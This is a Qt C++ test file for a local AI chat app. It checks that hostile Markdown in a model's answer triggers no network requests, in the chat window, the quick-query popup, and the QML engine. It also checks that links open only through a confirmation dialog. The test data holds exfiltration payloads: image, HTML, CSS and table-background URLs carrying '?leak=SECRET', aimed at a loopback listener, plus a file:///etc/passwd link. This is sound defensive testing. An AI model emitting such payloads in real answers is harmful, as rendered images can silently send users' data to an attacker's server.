// Issue #19 item 1 (and #21 "safe links"): a conversation full of hostile Markdown (images, raw HTML,
// CSS backgrounds pointing at a listener on loopback) is shown in the main window's chat and in the
// quick-query popup of the real app graph (AppContext, real QML), and the listener receives nothing.
// Before the fix, `![a](http://127.0.0.1:PORT/x.png?leak=SECRET)` arrived as `GET /x.png?leak=SECRET`.
// The QML engine's network is refused on its own too (an Image pointing at the listener), and a link in
// a message opens only through the confirmation dialog, which shows the full address.
#include "chat/chat_controller.h"
#include "chat/link_guard.h"
#include "hotkey/global_hotkey.h"
#include "shell/app_context.h"
#include "shell/application.h"
#include "shell/offline_network.h"
#include "support/scripted_backend.h"
#include "tray/quick_query_controller.h"
#include "tray/quick_query_popup.h"
#include "tray/tray_integration.h"

#include <QNetworkAccessManager>
#include <QNetworkReply>
#include <QQmlApplicationEngine>
#include <QQmlComponent>
#include <QQuickItem>
#include <QQuickWindow>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTest>

using namespace sosoik;
using sosoik::app::test::ScriptedBackend;

namespace {

// Counts every connection and keeps what was asked.
struct Listener {
    QTcpServer server;
    QStringList requests;
    int connections = 0;
    Listener() {
        QObject::connect(&server, &QTcpServer::newConnection, &server, [this] {
            while (QTcpSocket* socket = server.nextPendingConnection()) {
                ++connections;
                QObject::connect(socket, &QTcpSocket::readyRead, socket, [this, socket] {
                    requests << QString::fromLatin1(socket->readAll().split('\n').value(0)).trimmed();
                    socket->write("HTTP/1.0 404 Not Found\r\nContent-Length: 0\r\n\r\n");
                    socket->disconnectFromHost();
                });
            }
        });
    }
    bool listen() { return server.listen(QHostAddress::LocalHost); }
    QString base() const { return QStringLiteral("http://127.0.0.1:%1").arg(server.serverPort()); }
};

// One line per hostile construct, each a piece of the streamed answer.
QStringList hostilePieces(const QString& base) {
    const QStringList lines = {
        QStringLiteral("Here is your answer. ![a](%1/md.png?leak=SECRET)"),
        QStringLiteral("Reference image: ![ref][r]"),
        QString(),
        QStringLiteral("[r]: %1/ref.png?leak=SECRET"),
        QString(),
        QStringLiteral("<img src=\"%1/html.png?leak=SECRET\"></img>"),
        QString(),
        QStringLiteral("Inline <b><img src='%1/inline.png'></b></b> HTML and <IMG SRC=%1/upper.png></IMG>."),
        QString(),
        QStringLiteral("<p style=\"background-image: url(%1/css.png)\">styled</p>"),
        QString(),
        QStringLiteral("<table background=\"%1/table.png\"><tr><td>cell</td></tr></table>"),
        QString(),
        QStringLiteral("| a | b |"),
        QStringLiteral("|---|---|"),
        QStringLiteral("| ![t](%1/cell.png) | x |"),
        QString(),
        QStringLiteral("> quoted ![q](%1/quote.png)"),
        QString(),
        QStringLiteral("[![nested](%1/nested.png)](https://example.com/nested)"),
        QString(),
        QStringLiteral("A [safe link](https://example.com/a?b=1) and a [local one](file:///etc/passwd)."),
    };
    QStringList pieces;
    for (const QString& line : lines)
        pieces << (line.contains(QLatin1String("%1")) ? line.arg(base) : line) + QLatin1Char('\n');
    return pieces;
}

struct Wired {
    ScriptedBackend* backend = nullptr;
    std::unique_ptr<app::AppContext> context;
    QList<QUrl> opened;

    explicit Wired(const QString& dataDir) {
        auto b = std::make_unique<ScriptedBackend>();
        backend = b.get();
        app::AppContextOptions options;
        options.dataDir = app::DataDir{dataDir, true, {}};
        options.backend = std::move(b);
        options.inspector = [](const QString& path) {
            app::ModelDetails d;
            d.path = path;
            d.name = QStringLiteral("scripted");
            return d;
        };
        options.devices = [] { return QVariantList(); };
        options.hotkey = std::make_unique<app::UnavailableGlobalHotkey>(QStringLiteral("test platform"));
        context = std::make_unique<app::AppContext>(std::move(options));
        context->links()->setOpener([this](const QUrl& url) {
            opened << url;
            return true;
        });
    }
    bool loadModel() {
        QSignalSpy loaded(context->worker(), &app::EngineWorker::modelLoaded);
        context->worker()->loadModel({QStringLiteral("/models/scripted.gguf")});
        if (!QTest::qWaitFor([&loaded] { return !loaded.isEmpty(); }, 10000)) return false;
        QCoreApplication::processEvents();
        return true;
    }
};

void collectItems(QQuickItem* root, QList<QQuickItem*>& out) {
    if (!root) return;
    out << root;
    for (QQuickItem* child : root->childItems())
        collectItems(child, out);
}

// The Markdown TextEdits of a window (prose of messages, the popup's answer).
QList<QQuickItem*> markdownViews(QQuickWindow* window) {
    QList<QQuickItem*> all, out;
    collectItems(window->contentItem(), all);
    for (QQuickItem* item : all)
        if (item->inherits("QQuickTextEdit") && item->property("textFormat").toInt() == Qt::MarkdownText)
            out << item;
    return out;
}

QObject* findByName(QQuickWindow* window, const QString& name) {
    QList<QQuickItem*> all;
    collectItems(window->contentItem(), all);
    for (QQuickItem* item : all)
        if (item->objectName() == name) return item;
    return nullptr;
}

// Time for images to be requested: layout, paint, and the pixmap reader thread.
void settle(QQuickWindow* window) {
    for (int i = 0; i < 20; ++i) {
        window->requestUpdate();
        QTest::qWait(100);
    }
}

} // namespace

class TestOfflineRendering : public QObject {
    Q_OBJECT
    QTemporaryDir dir;

private slots:
    void initTestCase() { app::configureApplication(); }

    void hostileMarkdownFetchesNothingInChatOrPopup() {
        Listener listener;
        QVERIFY(listener.listen());
        Wired app(dir.filePath("chat"));
        app.backend->pieces = hostilePieces(listener.base());
        QVERIFY(app.loadModel());
        QQuickWindow* window = app.context->loadMainWindow();
        QVERIFY(window);
        window->show();
        QVERIFY(QTest::qWaitForWindowExposed(window));

        QVERIFY(app.context->chat()->send(QStringLiteral("Summarize the attached page")));
        QTRY_VERIFY_WITH_TIMEOUT(!app.context->chat()->busy(), 20000);
        settle(window);
        QList<QQuickItem*> views = markdownViews(window);
        QVERIFY2(!views.isEmpty(), "the answer is rendered as Markdown");
        QString shown;
        for (QQuickItem* view : views)
            shown += view->property("text").toString();
        QVERIFY2(shown.contains(listener.base() + QStringLiteral("/md.png?leak=SECRET")), qPrintable(shown));

        // The same answer in the quick-query popup.
        app::QuickQueryController* popup = app.context->tray()->quickQuery();
        QVERIFY(popup->ask(QStringLiteral("And again, quickly")));
        QTRY_COMPARE_WITH_TIMEOUT(popup->state(), QStringLiteral("done"), 20000);
        app.context->tray()->popup()->showNear();
        QQuickWindow* popupWindow = app.context->tray()->popup()->window();
        QVERIFY(QTest::qWaitForWindowExposed(popupWindow));
        settle(popupWindow);
        QVERIFY(findByName(popupWindow, QStringLiteral("quickAnswer"))
                    ->property("text")
                    .toString()
                    .contains(QStringLiteral("leak=SECRET")));

        // Reopening the conversation from the history renders it again from storage.
        const qint64 id = app.context->chat()->conversationId();
        app.context->chat()->newConversation();
        QVERIFY(app.context->chat()->openConversation(id));
        settle(window);

        QCOMPARE(listener.requests, QStringList());
        QCOMPARE(listener.connections, 0);

        // The listener does see a request that is really made: the check above can fail.
        QNetworkAccessManager nam;
        QNetworkReply* reply = nam.get(QNetworkRequest(QUrl(listener.base() + QStringLiteral("/control"))));
        QTRY_VERIFY(reply->isFinished());
        reply->deleteLater();
        QTRY_COMPARE(listener.requests, QStringList{QStringLiteral("GET /control HTTP/1.1")});
    }

    void theQmlEngineRefusesTheNetworkOnItsOwn() {
        Listener listener;
        QVERIFY(listener.listen());
        Wired app(dir.filePath("engine"));
        QQmlComponent component(app.context->qmlEngine());
        component.setData(
            QStringLiteral("import QtQuick\nWindow { visible: true; width: 100; height: 100\n"
                           "  Image { objectName: 'img'; source: '%1/direct.png' }\n"
                           "  Text { textFormat: Text.RichText; text: '<img src=\"%1/rich.png\">' }"
                           "\n}")
                .arg(listener.base())
                .toUtf8(),
            QUrl(QStringLiteral("qrc:/test/Probe.qml")));
        std::unique_ptr<QObject> object(component.create());
        QVERIFY2(object, qPrintable(component.errorString()));
        auto* window = qobject_cast<QQuickWindow*>(object.get());
        QVERIFY(QTest::qWaitForWindowExposed(window));
        QObject* image = window->findChild<QObject*>(QStringLiteral("img"));
        QTRY_COMPARE(image->property("status").toInt(), 3); // Image.Error
        settle(window);
        QVERIFY(app.context->network()->refused() >= 2);
        QCOMPARE(listener.connections, 0);
    }

    void aLinkOpensOnlyAfterTheConfirmationShowingTheFullAddress() {
        Wired app(dir.filePath("links"));
        app.backend->pieces = {QStringLiteral("See [the docs](https://example.com/docs?x=1&leak=%EC%95%88) "),
                               QStringLiteral("or [this](file:///etc/passwd).")};
        QVERIFY(app.loadModel());
        QQuickWindow* window = app.context->loadMainWindow();
        window->show();
        QVERIFY(QTest::qWaitForWindowExposed(window));
        QVERIFY(app.context->chat()->send(QStringLiteral("links please")));
        QTRY_VERIFY_WITH_TIMEOUT(!app.context->chat()->busy(), 20000);
        QQuickItem* view = nullptr;
        QTRY_VERIFY([&] {
            for (QQuickItem* v : markdownViews(window))
                if (v->property("text").toString().contains(QLatin1String("the docs"))) view = v;
            return view != nullptr;
        }());

        // A click on the link (TextEdit's linkActivated): nothing opens, the dialog asks.
        const QString docs = QStringLiteral("https://example.com/docs?x=1&leak=%EC%95%88");
        QVERIFY(QMetaObject::invokeMethod(view, "linkActivated", Q_ARG(QString, docs)));
        QObject* dialog = nullptr;
        QTRY_VERIFY((dialog = findByName(window, QStringLiteral("linkConfirmDialog"))) ||
                    (dialog = window->findChild<QObject*>(QStringLiteral("linkConfirmDialog"))));
        QTRY_VERIFY(dialog->property("opened").toBool());
        QVERIFY(app.opened.isEmpty());
        QCOMPARE(dialog->property("shownUrl").toString(), docs);
        QVERIFY(dialog->property("allowed").toBool());
        QVERIFY(QMetaObject::invokeMethod(dialog, "accept"));
        QCOMPARE(app.opened, QList<QUrl>{QUrl(docs)});

        // A file: link is shown but cannot be opened.
        QVERIFY(QMetaObject::invokeMethod(view, "linkActivated", Q_ARG(QString, "file:///etc/passwd")));
        QObject* second = nullptr;
        QTRY_VERIFY((second = window->findChild<QObject*>(QStringLiteral("linkConfirmDialog"))) &&
                    second != dialog && second->property("opened").toBool());
        QVERIFY(!second->property("allowed").toBool());
        QVERIFY(QMetaObject::invokeMethod(second, "accept"));
        QCOMPARE(app.opened.size(), 1);
    }
};

QTEST_MAIN(TestOfflineRendering)
#include "tst_offline_rendering.moc"
